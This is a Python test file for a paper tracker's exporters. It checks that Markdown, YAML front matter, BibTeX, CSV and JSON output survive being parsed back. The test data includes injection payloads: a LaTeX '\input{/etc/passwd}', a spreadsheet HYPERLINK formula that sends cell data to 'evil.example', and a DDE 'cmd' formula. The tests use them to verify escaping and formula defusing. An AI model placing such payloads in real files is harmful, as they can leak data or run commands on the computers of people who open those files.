"""Every export format, read back with a real parser: Markdown contents, YAML, BibTeX, CSV, JSON."""

from __future__ import annotations

import csv
import io
import re

import bibtexparser
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker import backup as backup_file
from tracker import latex
from tracker.exports import render
from tracker.exports.bibtex import arxiv_year, bibtex, cite_key, escape_keeping_latex
from tracker.exports.item import ExportItem
from tracker.exports.markdown import heading_anchors, markdown
from tracker.exports.table import COLUMNS, csv_table, protect, unprotect
from tracker.exports.vault import per_paper_files
from tracker.models import Annotation, Digest, Paper, Status, paper_id_for

DIGESTS = [
    Digest("d1", "Aug 25", "2025-08-25", "a.txt", "x", "t"),
    Digest("d2", "Mar 17", None, "b.txt", "y", "t"),
]

HOSTILE_TITLES = [
    "Braces {unbalanced and } closing } twice",
    "Percent 100% & ampersand, $dollars$, #hash, under_score, caret^ and tilde~",
    "Back\\slash \\textbf{bold} \\input{/etc/passwd}",
    "Ünïcödé — “quotes” 中文 emoji 🎉",
    "@misc{injected, title={x}} at sign",
    "}",
    "{",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "--- front matter breaker\n---\nnewline: yes",
    'Quotes "and": colons # not a comment',
    "- leading dash",
    "\x85nel\u2028line separator\x7fdel\x9fc1",
]


def item(
    title: str,
    *,
    status: Status = Status.READ,
    note: str = "",
    tags: list[str] | None = None,
    digests: tuple[str, ...] = ("d1",),
    arxiv: str | None = "2410.05434",
    authors: tuple[str, ...] = ("Ada Lovelace", "Alan Turing"),
) -> ExportItem:
    pid = paper_id_for(title) if title.strip() else "0" * 12
    paper = Paper(pid, title, "An abstract.", list(digests), arxiv_id=arxiv, authors=list(authors))
    return ExportItem(
        paper,
        Annotation(
            pid, status, note, ["ml"] if tags is None else list(tags), "2026-01-02T03:04:05.000Z"
        ),
    )


# -- Markdown: table of contents -------------------------------------------------------
def _toc_links(text: str) -> list[tuple[str, str]]:
    contents = text.split("## Contents\n", 1)[1].split("\n\n## ", 1)[0]
    return re.findall(r"^- \[(.*?)\]\(#([^)]*)\) \(\d+\)$", contents, re.MULTILINE)


def test_markdown_has_a_table_of_contents_linking_each_digest_heading() -> None:
    items = [
        item("Pointer Networks", note="## Aug 25 2025\n\nmy own heading with the same text"),
        item("Other", digests=("d2",)),
    ]
    text = markdown(items, DIGESTS)
    links = _toc_links(text)
    assert [name for name, _ in links] == ["Aug 25 2025", "Mar 17"]
    anchors = heading_anchors(text.split("\n"))
    lines = text.split("\n")
    for name, anchor in links:
        # Each link points at the group heading itself, not at a note heading
        # with the same words (GitHub numbers repeated anchors -1, -2 …).
        [line] = [n for n, a in anchors.items() if a == anchor]
        assert lines[line] == f"## {name}"
    assert dict(links)["Aug 25 2025"] == "aug-25-2025"


def test_markdown_grouped_by_status_has_contents_in_reading_order() -> None:
    items = [
        item("A", status=Status.SKIPPED),
        item("Bb", status=Status.READING),
        item("Ccc", status=Status.TO_READ),
    ]
    text = markdown(items, DIGESTS, group_by="status")
    assert _toc_links(text) == [
        ("Reading", "reading"),
        ("To read", "to-read"),
        ("Skipped", "skipped"),
    ]
    assert text.index("## Reading") < text.index("## To read") < text.index("## Skipped")


def test_a_paper_titled_like_a_later_group_shifts_that_groups_anchor() -> None:
    items = [item("Mar 17"), item("Other", digests=("d2",))]
    text = markdown(items, DIGESTS)
    # "### Mar 17" (a paper) comes first and takes #mar-17.
    assert ("Mar 17", "mar-17-1") in _toc_links(text)


def test_an_unclosed_code_block_in_a_note_does_not_swallow_the_next_paper() -> None:
    items = [item("First", note="```python\nprint('open')"), item("Second")]
    text = markdown(items, DIGESTS)
    headings = [lines for lines in heading_anchors(text.split("\n")).values()]
    assert "second" in headings
    assert "```python\nprint('open')\n```" in text


def test_no_papers_no_contents() -> None:
    text = markdown([], DIGESTS)
    assert "Contents" not in text and "0 papers." in text


# -- vault: YAML front matter ---------------------------------------------------------------
def _front_matter(content: str) -> dict[str, object]:
    assert content.startswith("---\n")
    head = content[4:].split("\n---\n", 1)[0]
    data = yaml.safe_load(head)
    assert isinstance(data, dict)
    return data


def test_front_matter_parses_as_yaml_for_hostile_titles_tags_and_notes() -> None:
    for title in HOSTILE_TITLES:
        it = item(title, tags=["a: b", "#hash", "- dash", "[x]", "{y}", "'q'", title], note=title)
        [(name, content)] = per_paper_files([it], DIGESTS).items()
        data = _front_matter(content)
        assert data["title"] == title
        assert data["tags"] == it.annotation.tags
        assert data["status"] == "read"
        assert data["digests"] == ["Aug 25 2025"]
        assert data["authors"] == ["Ada Lovelace", "Alan Turing"]
        assert data["arxiv"] == "2410.05434"
        assert "/" not in name and "\n" not in name


text_st = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


@settings(max_examples=200, deadline=None)
@given(title=text_st, tags=st.lists(text_st, max_size=4), note=text_st)
def test_front_matter_round_trips_any_text(title: str, tags: list[str], note: str) -> None:
    it = item(title or "x", tags=tags, note=note)
    [content] = per_paper_files([it], DIGESTS).values()
    data = _front_matter(content)
    assert data["title"] == (title or "x")
    assert data["tags"] == tags


# -- BibTeX ------------------------------------------------------------------------------------
_UNESCAPE = [
    (r"\textbackslash{}", "\\"),
    (r"\textbraceleft{}", "{"),
    (r"\textbraceright{}", "}"),
    (r"\textasciicircum{}", "^"),
    (r"\textasciitilde{}", "~"),
    (r"\&", "&"),
    (r"\%", "%"),
    (r"\$", "$"),
    (r"\#", "#"),
    (r"\_", "_"),
]


def _unescape(value: str) -> str:
    out, i = [], 0
    while i < len(value):
        for escaped, plain in _UNESCAPE:
            if value.startswith(escaped, i):
                out.append(plain)
                i += len(escaped)
                break
        else:
            out.append(value[i])
            i += 1
    return "".join(out)


def _parse_bib(text: str) -> dict[str, dict[str, str]]:
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks, [b.error for b in library.failed_blocks]
    return {e.key: {f.key: f.value for f in e.fields} for e in library.entries}


def test_bibtex_parses_with_hostile_titles_authors_and_notes() -> None:
    items = [
        item(
            title,
            arxiv=f"2410.{10000 + n}",
            authors=("Jane {Doe}", "Research and Development Team", "Smith, J."),
            note=f"note with {title} and a second line\n\n@article{{x,}}",
            tags=["a%b", "c}d"],
        )
        for n, title in enumerate(HOSTILE_TITLES)
    ]
    bib = bibtex(items)
    assert bib.entries == len(HOSTILE_TITLES) and bib.without_id == 0
    entries = _parse_bib(bib.text)
    assert len(entries) == len(HOSTILE_TITLES)
    for it in items:
        fields = entries[cite_key(it.paper)]
        title = fields["title"]
        assert title.startswith("{") and title.endswith("}")
        assert _unescape(title[1:-1]) == " ".join(it.paper.title.split())
        assert fields["eprint"] == it.paper.arxiv_id
        assert fields["archivePrefix"] == "arXiv"
        assert fields["year"] == "2024"
        assert fields["url"] == f"https://arxiv.org/abs/{it.paper.arxiv_id}"
        assert "{Research and Development Team}" in fields["author"]
        assert "{Smith, J.}" in fields["author"]
        assert _unescape(fields["annote"]) == " ".join(it.annotation.note.split())
        assert _unescape(fields["keywords"]) == "a%b, c}d"


@settings(max_examples=200, deadline=None)
@given(title=st.text(min_size=1, max_size=60), note=st.text(max_size=60))
def test_bibtex_round_trips_any_title(title: str, note: str) -> None:
    it = item(title, note=note)
    fields = _parse_bib(bibtex([it]).text)[cite_key(it.paper)]
    # The field reads back exactly as written: nothing in a title unbalances it.
    assert fields["title"][1:-1] == escape_keeping_latex(title)
    if not latex.parts(" ".join(title.split())):  # no LaTeX kept: all of it escaped
        assert _unescape(fields["title"][1:-1]) == " ".join(title.split())


def test_bibtex_keys_are_unique_and_stable_and_papers_without_id_are_misc() -> None:
    with_id = item("Attention", arxiv="1706.03762v5", authors=("Ashish Vaswani",))
    same_id = item("Attention, revised title", arxiv="1706.03762", authors=("Ashish Vaswani",))
    old = item("Old style", arxiv="hep-th/9901001", authors=())
    without = item("The Pointer Networks", arxiv=None)
    bib = bibtex([with_id, without, same_id, old], DIGESTS)
    assert (bib.entries, bib.without_id) == (4, 1)
    keys = list(_parse_bib(bib.text))
    assert keys == [
        "vaswani2017-1706.03762",
        f"pointer-{without.paper.id}",
        f"vaswani2017-1706.03762-{same_id.paper.id}",
        "arxiv1999-hep-th-9901001",
    ]
    # The key of a paper does not depend on the other papers exported.
    assert list(_parse_bib(bibtex([with_id]).text)) == keys[:1]
    assert list(_parse_bib(bibtex([without]).text)) == [keys[1]]
    entries = _parse_bib(bib.text)
    assert entries[keys[0]]["eprint"] == "1706.03762"
    assert entries[keys[3]]["eprint"] == "hep-th/9901001"
    # Without an id: what is known, the year of its digest (Aug 25 2025).
    assert entries[keys[1]]["year"] == "2025"
    assert "eprint" not in entries[keys[1]] and "doi" not in entries[keys[1]]
    assert arxiv_year("0704.0001") == "2007" and arxiv_year("not an id") is None


# -- CSV -------------------------------------------------------------------------------------------
def test_csv_round_trips_through_csv_reader_and_defuses_formulas() -> None:
    items = [
        item(title, note=f"{title}\nsecond line, with comma", tags=["=cmd|' /C calc'!A0", "ok"])
        for title in HOSTILE_TITLES
    ]
    text = csv_table(items, DIGESTS)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(items) + 1
    for it, row in zip(items, rows[1:], strict=True):
        record = dict(zip(COLUMNS, row, strict=True))
        assert unprotect(record["title"]) == it.paper.title
        assert unprotect(record["note"]) == it.annotation.note
        assert record["status"] == "read"
        assert record["digests"] == "Aug 25 2025"
        assert record["tags"] == "'=cmd|' /C calc'!A0; ok"
        assert record["arxiv_id"] == "2410.05434"
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    hyperlink = next(r for r in rows if "HYPERLINK" in r[1])
    assert hyperlink[1].startswith("'=HYPERLINK")


@given(st.text(max_size=30))
def test_protect_is_undone_by_unprotect(cell: str) -> None:
    assert unprotect(protect(cell)) == cell or cell.startswith("'")
    assert not protect(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


# -- JSON backup ----------------------------------------------------------------------------------
def test_json_export_is_a_backup_that_round_trips() -> None:
    items = [item(title, note=title, tags=[title]) for title in HOSTILE_TITLES[:6]]
    rendered = render("json", items, DIGESTS, created_at="2026-11-23T00:00:00.000Z")
    backup = backup_file.parse_backup(rendered.text.encode(), "export.json")
    assert backup.created_at == "2026-11-23T00:00:00.000Z"
    by_id = {a.paper_id: a for a in backup.annotations}
    for it in items:
        assert by_id[it.paper.id].to_dict() == it.annotation.to_dict()
    # Readable on its own: each annotation names its paper.
    doc = backup_file.orjson.loads(rendered.text)
    titles = {row["title"] for row in doc["annotations"]}
    assert titles == {it.paper.title for it in items}
    assert {row["arxiv_id"] for row in doc["annotations"]} == {"2410.05434"}


def test_render_names_the_formats() -> None:
    bib = render("bibtex", [item("A"), item("B", arxiv=None)], DIGESTS)
    assert (bib.count, bib.skipped) == (2, 0)
    assert bib.note == (
        "1 of them has no arXiv id: written as @misc with what the library knows of them "
        "(the title; authors, year and link where known)"
    )
    assert render("csv", [item("A")], DIGESTS).text.startswith("id,title,status")
    try:
        render("docx", [], DIGESTS)
    except ValueError as err:
        assert "md, vault, bibtex, csv, json" in str(err)
    else:
        raise AssertionError("an unknown format must be refused")
